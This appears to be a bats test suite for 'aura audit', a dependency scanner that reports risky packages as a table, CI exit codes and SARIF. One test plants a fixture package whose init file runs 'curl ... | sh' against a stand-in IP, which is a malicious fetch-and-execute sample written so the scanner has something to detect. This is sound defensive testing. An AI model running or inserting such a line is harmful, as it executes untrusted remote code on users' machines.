#!/usr/bin/env bats
# 71-audit.bats: aura audit over requirement files and an environment, against the fixture
# registry (tests/fixtures/registry) on 127.0.0.1: the table, the CI exit status, and SARIF
# that points at the requirement line of each finding.

load helpers/common

SCHEMA="${AURA_SARIF_SCHEMA:-$AURA_SHARED/data/sarif-schema-2.1.0.json}"

setup_file() {
	export T="$BATS_FILE_TMPDIR"
	python3 "$AURA_ROOT/tests/fixtures/registry/serve.py" "$T/web" "$T/port" 3>&- &
	echo $! > "$T/pid"
	for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.1; done
	export INDEX="http://127.0.0.1:$(cat "$T/port")/simple/" XDG_CACHE_HOME="$T/cache" XDG_CONFIG_HOME="$T/config"
	python3 "$AURA_ROOT/tests/fixtures/registry/make-registry.py" "$T/web" "${INDEX%simple/}"
	mkdir -p "$T/proj"
	# A pip-compile style lock: pins with hashes, a comment, an include.
	printf '# locked\ndemo-pkg==1.0 \\\n    --hash=sha256:%s\n-r more.txt\n' \
		"$(sha256sum "$T/web/packages/demo_pkg-1.0.tar.gz" | cut -c1-64)" > "$T/proj/requirements.txt"
	printf 'ordering==1.0\n\nevil==1.0\n' > "$T/proj/more.txt"
}

teardown_file() {
	kill "$(cat "$T/pid")" 2>/dev/null || true
}

@test "aura audit: one table of package, version, risk, top reason, capabilities; exit 1 for CI" {
	cd "$T/proj"
	run --separate-stderr aura audit --index-url "$INDEX" requirements.txt
	assert_equal "$status" 1
	assert_line --index 0 --regexp '^PACKAGE +VERSION +RISK +TOP REASON +CAPABILITIES +FROM$'
	assert_line --regexp '^demo-pkg +1\.0 +info +no findings +- +requirements\.txt:2$'
	assert_line --regexp '^ordering +1\.0 +info .*more\.txt:1$'
	assert_line --regexp '^evil +1\.0 +critical +ShellCommand: os\.system\(\) runs a shell command .* process .*more\.txt:3$'
	assert_equal "${#lines[@]}" 4
}

@test "aura audit: below the gate exits 0; --fail-level moves the gate" {
	cd "$T/proj"
	printf 'demo-pkg==1.0\nordering==1.0\n' > clean.txt
	run aura audit --index-url "$INDEX" clean.txt
	assert_success
	run aura audit --index-url "$INDEX" --fail-level critical requirements.txt
	assert_equal "$status" 1
	run aura audit --index-url "$INDEX" --fail-score 100000 requirements.txt
	assert_success
}

@test "aura audit --format sarif: each finding at the requirement file line that named it" {
	cd "$T/proj"
	run --separate-stderr aura audit --index-url "$INDEX" --format sarif requirements.txt
	assert_equal "$status" 1
	assert_jq "$output" '.version == "2.1.0" and (.runs[0].results | length) == 1'
	assert_jq "$output" '.runs[0].results[0] | .ruleId == "ShellCommand" and .level == "error"
		and .locations[0].physicalLocation.artifactLocation.uri == "more.txt"
		and .locations[0].physicalLocation.region.startLine == 3
		and (.message.text | startswith("evil 1.0: risk critical"))
		and .properties.capabilities == ["process"]'
	assert_jq "$output" '.runs[0].tool.driver.rules | map(.id) == ["ShellCommand"]'
	if [ -f "$SCHEMA" ]; then
		printf '%s\n' "$output" > "$T/audit.sarif"
		run -0 /usr/bin/python3 -c '
import json, sys, jsonschema
jsonschema.validate(json.load(open(sys.argv[2])), json.load(open(sys.argv[1])))' "$SCHEMA" "$T/audit.sarif"
	elif [ -n "${AURA_REQUIRE_SHARED:-}" ]; then
		fail "no SARIF schema at $SCHEMA (AURA_REQUIRE_SHARED is set)"
	else	# shared data a clean clone lacks: the rest of the test ran, the schema check did not
		echo "# skipped the SARIF schema check: no schema at $SCHEMA (set AURA_SHARED or AURA_SARIF_SCHEMA)" >&3
	fi
}

@test "aura audit: an environment (site-packages) and an approval from the policy" {
	site="$T/env/lib/python3/site-packages"
	mkdir -p "$site/evilmod" "$site/evilmod-1.0.dist-info"
	printf 'import os\nos.system("curl -s http://203.0.113.9/x | sh")\n' > "$site/evilmod/__init__.py"
	printf 'Metadata-Version: 2.1\nName: evilmod\nVersion: 1.0\n' > "$site/evilmod-1.0.dist-info/METADATA"
	printf 'evilmod/__init__.py,,\nevilmod-1.0.dist-info/METADATA,,\nevilmod-1.0.dist-info/RECORD,,\n' > "$site/evilmod-1.0.dist-info/RECORD"
	run --separate-stderr aura audit "$site"
	assert_equal "$status" 1
	assert_line --regexp '^evilmod +1\.0 +(high|critical) '
	# The policy's approvals appear in the table and pass the gate.
	cd "$T/proj"
	run aura approve --index-url "$INDEX" 'pypi:evil==1.0' --note "a fixture"
	assert_success
	run --separate-stderr aura audit --index-url "$INDEX" requirements.txt
	assert_success
	assert_line --regexp '^evil +1\.0 +critical \(approved\) '
}

@test "aura audit refuses lock-file formats it cannot read yet, a broken lock file, and bad options" {
	cd "$T/proj"
	printf '# yarn lockfile v1\n' > yarn.lock
	run aura audit yarn.lock
	assert_equal "$status" 2
	assert_output --partial "this lock-file format is not read yet"
	# Lock files aura-fetch reads go through it; a broken one is its precise error, exit 2.
	printf '{}' > package-lock.json
	run aura audit package-lock.json
	assert_equal "$status" 2
	assert_output --partial "package-lock.json: cannot handle this lock entry: lockfileVersion is not 1, 2 or 3"
	run aura audit --format xml requirements.txt
	assert_equal "$status" 2
	run aura audit
	assert_equal "$status" 2
}
